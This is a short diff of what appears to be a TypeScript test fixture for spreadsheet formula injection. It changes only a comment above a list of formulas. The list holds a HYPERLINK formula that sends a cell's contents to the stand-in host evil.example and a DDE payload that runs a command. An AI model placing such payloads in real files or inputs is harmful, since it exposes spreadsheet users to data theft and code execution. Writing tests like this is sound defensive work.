@@ -5,7 +5,7 @@ import { device } from '../../registrations/device.ts'
 import { someRegistration } from '../../registrations/some-registration.ts'
 import type { TestServer } from '../../test-server.ts'
 
-/** What a spreadsheet would work out, where it stands in a cell as it was typed. */
+/** What a spreadsheet would work out, where a cell holds it as it was typed. */
 export const FORMULAS: readonly string[] = [
   '=HYPERLINK("https://evil.example?x="&A1,"me")',
   "+cmd|' /C calc'!A0",
